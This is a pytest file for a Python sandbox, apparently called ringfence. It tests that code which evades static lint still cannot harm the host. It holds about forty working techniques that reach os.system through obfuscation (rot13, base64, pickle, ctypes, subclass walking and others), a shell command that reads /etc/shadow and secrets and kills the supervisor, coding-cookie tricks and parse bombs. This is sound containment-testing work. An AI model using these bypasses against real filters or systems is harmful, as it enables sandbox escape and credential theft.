"""Lint bypasses: programs that reach the shell without naming it, and texts that break or fool a reader of source.

A lint is advice. Each program below does reach the shell, inside; from there too nothing of the host can be had.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from ringfence import Job, Outcome
from ringfence.base.errors import SourceError, SourceTooLarge
from ringfence.sandbox.source import decode_source

from tests.attacks.attack import Attack, limits
from tests.attacks.cells import cells

Contain = Callable[[Attack], Outcome]

# `command` is what they hand to the shell: it tries the host, and says that it was there.
COMMAND = """
command = (
    "cat {secret} {private} {home} /etc/shadow /proc/1/environ 2>/dev/null;"
    "touch {writable}/x /usr/x /etc/x 2>/dev/null; kill -9 {supervisor} 2>/dev/null; echo reached"
).format(**canary)
"""

BYPASSES = cells(r"""
# %% getattr with a joined name
m = __import__("o" + "s")
getattr(m, "sys" + "tem")(command)

# %% importlib
import importlib
vars(importlib.import_module("so"[::-1]))["metsys"[::-1]](command)

# %% the module table
import sys
sys.modules["posix"].__dict__["sys" + "tem"](command)

# %% a module that imported it
import tempfile
tempfile._os.__getattribute__("sys" + "tem")(command)

# %% subclasses of object
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_" + "close":
        c.__init__.__globals__["sys" + "tem"](command)
        break

# %% builtins through a function
f = (lambda: 0).__globals__["__builtins__"]
f = f if isinstance(f, dict) else vars(f)
f["__imp" + "ort__"]("os").system(command)

# %% eval and chr
eval("".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95])))("os").system(command)

# %% exec of rot13
import codecs
exec(codecs.decode("vzcbeg bf; bf.flfgrz(pbzznaq)", "rot13"))

# %% exec of base64
import base64
exec(base64.b64decode(b"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oY29tbWFuZCk="))

# %% compile of a syntax tree
import ast
tree = ast.parse("x.y(command)")
tree.body[0].value.func = ast.Attribute(ast.Call(ast.Name("__import__", ast.Load()), [ast.Constant("os")], []),
                                        "system", ast.Load())
exec(compile(ast.fix_missing_locations(tree), "x", "exec"))

# %% code object by hand
def f():
    return g.h(command)
code = f.__code__.replace(co_names=("os", "system", "command"))
import types
types.FunctionType(code, {"os": __import__("os"), "command": command})()

# %% marshal
import marshal
exec(marshal.loads(marshal.dumps(compile("import os; os.system(command)", "x", "exec"))))

# %% pickle
import pickle
pickle.loads(b"cposix\nsystem\n(V" + command.encode().replace(b"\n", b" ") + b"\ntR.")

# %% format string
import tempfile
class Grab(str):
    def __format__(self, spec):
        return str(getattr(tempfile._os, spec)(command))
f"{Grab():system}"

# %% string.Formatter
import string, tempfile
found, _ = string.Formatter().get_field("0._os.system", [tempfile], {})
found(command)

# %% operator.methodcaller
import operator, sys
operator.methodcaller("sys" + "tem", command)(sys.modules["os"])

# %% functools and map
import functools, os as harmless
list(map(functools.partial(harmless.__dict__["sys" + "tem"]), [command]))

# %% a decorator
from os import system as note
@note
@lambda f: command
def strategy():
    pass

# %% a comparison
import os
class A:
    __lt__ = lambda self, other: os.__dict__["sys" + "tem"](other) or True
A() < command

# %% a class keyword
import os
class Base:
    def __init_subclass__(cls, run):
        getattr(os, "system")(run)
class Child(Base, run=command):
    pass

# %% unicode names
import os
os.ｓｙｓｔｅｍ(command)

# %% timeit
import timeit
timeit.timeit("os.system(c)", setup="import os", globals={"c": command}, number=1)

# %% doctest
import doctest, types
m = types.ModuleType("m", doc=">>> __import__('os').system(command) and None\n")
m.command = command
doctest.testmod(m)

# %% runpy
import runpy
open("helper.py", "w").write("import os; os.system(command)")
runpy.run_path("helper.py", {"command": command})

# %% a module of bytecode
import os, py_compile, sys
open("made.txt", "w").write("import os; os.system(os.environ['COMMAND'])")
py_compile.compile("made.txt", cfile="made.pyc")
os.environ["COMMAND"] = command
sys.path.insert(0, "/job")
import made

# %% ctypes
import ctypes
ctypes.CDLL(None)["sys" + "tem"](command.encode())

# %% subprocess through its C helper
import _posixsubprocess, os
read, write = os.pipe()
_posixsubprocess.fork_exec([b"/bin/sh", b"-c", command.encode()], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1,
                           -1, -1, read, write, False, False, -1, None, None, None, -1, None, False)
os.wait()

# %% exec in a child
import os
if os.fork() == 0:
    os.execv("/bin/sh", ["sh", "-c", command])
os.wait()

# %% posix_spawn
import os
os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", command], os.environ), 0)

# %% pty
import os, subprocess
subprocess.Popen.__init__.__globals__["os"].system(command)

# %% multiprocessing
import multiprocessing, os
p = multiprocessing.get_context("fork").Process(target=os.system, args=(command,))
p.start()
p.join()

# %% an editor and a pager
import os, pydoc
os.environ["PAGER"] = command
pydoc.pipepager("text", command)

# %% webbrowser
import webbrowser
webbrowser.GenericBrowser(["/bin/sh", "-c", command, "%s"]).open("x")

# %% logging configuration
import logging.config
logging.config.dictConfig({"version": 1, "formatters": {"x": {"()": "os.system", "command": command}}, "handlers": {
    "x": {"class": "logging.StreamHandler", "formatter": "x"}}})

# %% unittest.mock's importer
import pkgutil
pkgutil.resolve_name("os:system")(command)

# %% a breakpoint
import os
os.environ["PYTHONBREAKPOINT"] = "os.system"
breakpoint(command)

# %% the interpreter's own warnings
import os, warnings
warnings.showwarning = lambda *a, **k: os.__getattribute__("system")(command)
warnings.warn("x")

# %% a finaliser
import os, weakref
class C:
    pass
c = C()
weakref.finalize(c, os.__dict__["system"], command)
del c
""")


@pytest.mark.container_sample(
    "subclasses of object", "ctypes", "exec in a child", "posix_spawn", "multiprocessing",
    why="a shell is a shell, however it was reached",
)  # fmt: skip
@pytest.mark.parametrize("name", BYPASSES)
def test_shell_is_reached_and_harmless(contain: Contain, name: str) -> None:
    code = f"{COMMAND}\n{BYPASSES[name]}"
    outcome = contain(Attack(name=name, code=code, expect=("ok",)))
    assert "reached" in outcome.stdout, f"the attack itself failed: {outcome.stderr}"


@pytest.mark.parametrize(
    "text",
    [
        "# coding: latin-1\nx = 1",
        "#!/usr/bin/python\n# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0 os",
        "# vim: set fileencoding=rot13 :\nvzcbeg bf",
        "\f# coding=raw_unicode_escape\n# \\u000aimport os",
        "\n#coding:cp1252",
        "#\r# coding: utf-16",
        # Lines end at \n and \r only, for the interpreter: what str.splitlines takes for more must not hide a cookie.
        "#\x0b\x1c\x85\u2028\n# coding: utf-7",
        "\x0c\x0c\x0c# coding: utf-7",
    ],
)
def test_coding_cookies_are_refused(text: str) -> None:
    with pytest.raises(SourceError):
        Job(code=text)
    with pytest.raises(SourceError):
        decode_source(text.encode())


@pytest.mark.parametrize(
    "raw", [b"\xff\xfex\0=\x001\0", b"x = '\xe9'", b"x = 1\0import os", "x = '\ud800'".encode("utf-8", "surrogatepass")]
)
def test_text_that_others_read_differently_is_refused(raw: bytes) -> None:
    with pytest.raises(SourceError):
        decode_source(raw)


def test_what_is_read_is_what_runs(contain: Contain) -> None:
    """The program's file, read again by a spawned interpreter, says the same as the text that ran."""
    code = "# a comment about coding: none\nimport subprocess, sys\nprint('é', ascii('é'), flush=True)\n"
    code += "if len(sys.argv) < 2:\n    subprocess.run([sys.executable, __file__, 'again'], check=True)\n"
    with pytest.raises(SourceError):
        Job(code=code)
    outcome = contain(Attack(name="read again", code=code.replace(" coding:", ""), expect=("ok",)))
    assert outcome.stdout == "é '\\xe9'\n" * 2


DEEP = 100_000
PARSE_BOMBS = {
    "open brackets": "(" * DEEP,
    "matched brackets": "(" * DEEP + ")" * DEEP,
    "lists": "x = " + "[" * DEEP + "]" * DEEP,
    "dicts in dicts": "x = " + "{1:" * DEEP + "1" + "}" * DEEP,
    "minus signs": "x = " + "-" * DEEP + "1",
    "not not": "x = " + "not " * DEEP + "1",
    "attributes": "x = a" + ".b" * DEEP,
    "calls": "x = f" + "()" * DEEP,
    "subscripts": "x = a" + "[0]" * DEEP,
    "additions": "x = " + "1+" * DEEP + "1",
    "powers": "x = " + "1**" * DEEP + "1",
    "lambdas": "x = " + "lambda:" * DEEP + "1",
    "conditionals": "x = " + "1 if 1 else " * DEEP + "1",
    "f-strings": "x = " + "f'{" * 200 + "1" + "}'" * 200,
    "blocks": "".join(" " * i + "if 1:\n" for i in range(1000)) + " " * 1000 + "pass",
    "elifs": "if 0: pass\n" + "elif 0: pass\n" * 50_000,
    "decorators": "@f\n" * 50_000 + "def g(): pass",
    "huge integer": "x = " + "9" * 1_000_000,
    "huge hexadecimal integer": "x = 0x" + "f" * 3_000_000,
    "folded constants": "x = ((((2**60)**60)**60)**60)\ny = 'x' * 4096 * 4096 * 4096\nz = (1,) * 100000000",
    "long line": "x = '" + "x" * 4_000_000 + "'",
    "many lines": "x = 1\n" * 600_000,
    "many names": "\n".join(f"x{i} = {i}" for i in range(200_000)),
    "many constants": "x = [" + ",".join(f"'{i}'" for i in range(300_000)) + "]",
    "many arguments": "f(" + ",".join(f"a{i}={i}" for i in range(200_000)) + ")",
    "backslashes": "x = 1" + "\\\n" * 500_000,
    "nested functions": "".join(" " * i + f"def f{i}():\n" for i in range(90)) + " " * 90 + "pass",
    "match patterns": "match x:\n  case " + "[" * 50_000 + "]" * 50_000 + ": pass",
    "type comments": "# type: ignore\n" * 250_000,
    "star": "x = [" + "*" * DEEP + "a]",
}


@pytest.mark.container_sample("open brackets", "huge hexadecimal integer", "many lines", why="only the guest parses")
@pytest.mark.parametrize("name", PARSE_BOMBS)
def test_parse_bomb(contain: Contain, name: str) -> None:
    """Only the guest parses: the worst that a text can do is to end its own run."""
    attack = Attack(
        name=name,
        code=PARSE_BOMBS[name],
        expect=("ok", "error", "signal", "memory_limit", "timeout"),
        limits=limits(wall_seconds=3, memory_mb=256, disk_mb=16),
    )
    outcome = contain(attack)
    assert len(outcome.stderr) < 2 << 20
    assert outcome.reason.isprintable()


def test_oversize_source_is_refused() -> None:
    with pytest.raises(SourceTooLarge):
        Job(code="#" * (5 << 20))
    with pytest.raises(SourceTooLarge):
        decode_source(b"#" * (5 << 20))
